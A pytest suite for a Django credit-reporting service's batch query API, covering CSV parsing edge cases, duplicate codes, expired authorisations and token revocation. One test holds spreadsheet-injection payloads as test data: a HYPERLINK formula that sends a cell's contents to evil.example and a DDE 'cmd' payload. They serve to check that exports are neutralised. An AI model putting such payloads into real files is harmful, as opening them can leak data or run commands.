"""Batch queries (Art. 40): edge cases a reviewer found by probing (session 11) — lost codes,
shifted line numbers, a subject read twice, an expired authorisation honoured, CSV injection, a 500,
and a tiny request that kept the workers busy for twenty minutes."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest
from django.utils import timezone

from pubcredit.access import services as access_services
from pubcredit.access import tokens
from pubcredit.access.models import ApiToken, Authorization, QueryLog
from pubcredit.audit.models import AuditEntry
from pubcredit.reports import batch
from pubcredit.reports.models import BatchQuery, BatchQueryChunk
from tests.factories import collection as rf
from tests.factories import subjects as f
from tests.factories.tasks import run_worker
from tests.reports.conftest import Company
from tests.reports.test_batch_queries import agency_token, jsonl, post, results, status_of

pytestmark = pytest.mark.django_db


def _full_width(code: str) -> str:
    return code.translate({c: c + 0xFEE0 for c in range(0x21, 0x7F)})


def test_an_unclosed_quote_loses_no_code_and_shifts_no_line(company: Company) -> None:
    known, other = company.subject.uscc or "", f.org(name="杭州引号测试有限公司").uscc or ""
    headers = agency_token(company.bank)
    response = post(headers, body=f'code\n"{f.uscc()}\n{known}\n{other}\n'.encode(), content_type="text/csv")
    assert response.status_code == 202, response.content
    run_worker()
    lines = jsonl(response.json()["id"], headers)
    # Line 2 is read up to its end (a valid code nobody knows); lines 3 and 4 are their own lines.
    assert [(line["line"], line["status"]) for line in lines] == [(2, "not_found"), (3, "found"), (4, "found")]


def test_a_quoted_line_break_in_another_column_does_not_shift_the_line_numbers(company: Company) -> None:
    known = company.subject.uscc or ""
    headers = agency_token(company.bank)
    body = f'code,remark\n{f.uscc()},"a\nb"\n{known},x\n'.encode()
    response = post(headers, body=body, content_type="text/csv")
    run_worker()
    found = [line["line"] for line in jsonl(response.json()["id"], headers) if line["status"] == "found"]
    assert found == [4]  # the file's own line


@pytest.mark.parametrize("body", [b"code\n" + b"1" * 2_000_000 + b"\n", b'code\n"' + b"9" * 200_000 + b"\n"])
def test_a_line_csv_cannot_read_is_an_invalid_code_not_a_500(company: Company, body: bytes) -> None:
    headers = agency_token(company.bank)
    known = (company.subject.uscc or "").encode()
    response = post(headers, body=body + known + b"\n", content_type="text/csv")
    assert response.status_code == 202, response.content
    run_worker()
    assert [line["status"] for line in jsonl(response.json()["id"], headers)] == ["invalid", "found"]


def test_blank_lines_are_bounded(company: Company) -> None:
    body = (company.subject.uscc or "").encode() + b"\n" * (batch.MAX_LINES + 1)
    response = post(agency_token(company.bank), body=body, content_type="text/csv")
    assert response.status_code == 400
    assert response.json()["field"] == "codes"
    assert "含空行" in response.json()["message"]
    assert not BatchQuery.objects.exists()


def test_a_code_typed_in_full_width_is_a_duplicate_read_and_logged_once(
        company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch, "CHUNK_SIZE", 1)  # the two lines in different chunks
    known = company.subject.uscc or ""
    headers = agency_token(company.bank)
    response = post(headers, [known, _full_width(known), f" {known.lower()} "])
    run_worker()
    lines = jsonl(response.json()["id"], headers)
    assert [line["status"] for line in lines] == ["found", "duplicate", "duplicate"]
    assert QueryLog.objects.filter(subject=company.subject).count() == 1
    assert BatchQuery.objects.get().found == 1


def test_a_part_run_after_the_authorisation_ended_reads_public_information_only(
        company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch, "PART_SIZE", 1)
    monkeypatch.setattr(batch, "CHUNK_SIZE", 1)
    today = timezone.localdate()
    other = f.org(name="杭州过期授权有限公司")
    rf.record(other, company.versions["donation"], decision=today - timedelta(days=5))
    access_services.grant_authorization(subject=other, grantee=company.bank, purpose="授信审查",
                                        valid_from=today, valid_until=today + timedelta(days=1), actor="test")
    headers = agency_token(company.bank)
    response = post(headers, [company.subject.uscc or "", other.uscc or ""])
    job = BatchQuery.objects.get()
    batch.run_part(job.pk, 0)  # day D
    later = today + timedelta(days=2)  # the authorisation ended on D+1
    real = timezone.localdate
    monkeypatch.setattr(timezone, "localdate", lambda *a, **k: later if not a and not k else real(*a, **k))
    batch.run_part(job.pk, 1)  # day D+2
    second = jsonl(response.json()["id"], headers)[1]
    assert (second["levels"], second["reader"]["basis"], second["as_of"]) == (["public"], "public",
                                                                              later.isoformat())
    assert not QueryLog.objects.filter(subject=other).exists()
    assert Authorization.objects.filter(subject=other).exists()


def test_no_csv_cell_starts_like_a_spreadsheet_formula(company: Company) -> None:
    evil = f.org(name='=HYPERLINK("http://evil.example/?x="&A1,"点击")')
    rf.record(evil, company.versions["penalty"], decision=timezone.localdate() - timedelta(days=3),
              data={"CF_WSH": "=1+2", "CF_JDRQ": "2025-01-01"})
    headers = agency_token(company.bank)
    response = post(headers, [evil.uscc or "", "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1)"])
    run_worker()
    text = b"".join(results(response.json()["id"], headers, "csv").streaming_content).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert not [(r["line"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
    assert {r["subject_name"] for r in rows if r["status"] == "found"} == {"'" + (evil.name or "")}
    assert {r["code"] for r in rows if r["status"] == "invalid"} == {"'=cmd|' /C calc'!A0", "'+1+1", "'-2+3",
                                                                     "'@SUM(1)"}
    # The JSON lines carry every value as it is.
    assert jsonl(response.json()["id"], headers)[0]["subject"]["name"] == evil.name


def _authorised(company: Company, name: str) -> Any:
    other = f.org(name=name)
    today = timezone.localdate()
    rf.record(other, company.versions["donation"], decision=today - timedelta(days=5))
    access_services.grant_authorization(subject=other, grantee=company.bank, purpose="授信审查",
                                        valid_from=today, valid_until=today + timedelta(days=30), actor="test")
    return other


def test_a_job_stops_reading_once_its_token_is_revoked(company: Company, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(batch, "PART_SIZE", 1)
    monkeypatch.setattr(batch, "CHUNK_SIZE", 1)
    first, second = _authorised(company, "杭州吊销前有限公司"), _authorised(company, "杭州吊销后有限公司")
    headers = agency_token(company.bank)
    response = post(headers, [first.uscc or "", second.uscc or ""])
    job = BatchQuery.objects.get()
    batch.run_part(job.pk, 0)
    assert QueryLog.objects.filter(subject=first).count() == 1  # read under the valid token
    tokens.revoke_token(ApiToken.objects.get(pk=job.token_id), actor="operator")
    batch.run_part(job.pk, 1)
    job.refresh_from_db()
    assert (job.status, job.done, job.found) == ("failed", 1, 1)
    assert "令牌已吊销" in job.error
    assert "已处理 1 个代码" in job.error
    assert not QueryLog.objects.filter(subject=second).exists()  # nothing read after the revocation
    assert AuditEntry.objects.filter(event="reports:batch_query:stopped", object_id=response.json()["id"]).exists()
    # Another token of the agency sees why; the job has no results to download.
    shown = status_of(response.json()["id"], agency_token(company.bank)).json()
    assert (shown["status"], shown["results"], shown["error"]) == ("failed", None, job.error)


def test_a_job_whose_token_is_revoked_before_it_starts_reads_nothing(company: Company) -> None:
    other = _authorised(company, "杭州未开始有限公司")
    response = post(agency_token(company.bank), [other.uscc or "", company.subject.uscc or ""])
    assert response.status_code == 202, response.content
    job = BatchQuery.objects.get()
    tokens.revoke_token(ApiToken.objects.get(pk=job.token_id), actor="operator")
    run_worker()
    job.refresh_from_db()
    assert (job.status, job.done) == ("failed", 0)
    assert not QueryLog.objects.filter(subject=other).exists()
    assert not BatchQueryChunk.objects.filter(job=job).exists()

